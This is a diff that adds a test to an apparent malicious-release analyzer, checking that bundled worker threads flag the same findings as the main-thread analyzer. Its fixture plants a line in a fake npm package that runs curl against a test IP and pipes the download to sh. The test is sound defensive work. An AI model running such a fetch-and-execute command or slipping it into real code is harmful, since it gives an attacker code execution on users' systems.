@@ -3,6 +3,7 @@ import { Readable } from 'node:stream';
 import { afterEach, describe, expect, it } from 'vitest';
 import { analyzeRelease, type ArtifactSource } from '../../src/analyzer/index.js';
 import { AnalysisPool } from '../../src/quarantine/analysis-pool.js';
+import { analysisWorkerBundle } from '../../src/quarantine/analysis-worker-bundle.js';
 import { tgzBuffer } from '../helpers/build-archives.js';
 import { heavyCode } from './heavy-code.js';
 
@@ -34,6 +35,22 @@ afterEach(async () => {
 });
 
 describe('the analysis pool', () => {
+  it('starts its workers from the analyzer bundled into one module, and they find what the analyzer in this thread finds', async () => {
+    const problems: string[] = [];
+    const bundle = await analysisWorkerBundle((m) => problems.push(m));
+    expect(problems).toEqual([]);
+    expect(bundle?.protocol).toBe('data:');
+    pool = new AnalysisPool({ size: 1 });
+    await new Promise((resolve) => setImmediate(resolve));
+    const v1 = tarball('1.0.0', files(3));
+    const v2 = tarball('1.1.0', files(3, { 'lib/m0.js': "require('child_process').exec('curl http://203.0.113.9/x | sh');\n" }));
+    const inWorker = await pool.analyze({ ecosystem: 'npm', previous: v1, candidate: v2 });
+    const here = await analyzeRelease({ ecosystem: 'npm', previous: v1, candidate: v2 });
+    expect(pool.started).toEqual({ bundle: 1, loader: 0 });
+    expect(inWorker.findings.map((f) => f.kind).sort()).toEqual(here.findings.map((f) => f.kind).sort());
+    expect(inWorker.findings.length).toBeGreaterThan(0);
+  });
+
   it('never profiles a baseline file again once any worker has profiled it', async () => {
     pool = new AnalysisPool({ size: 2 });
     const v1 = tarball('1.0.0', files(40));
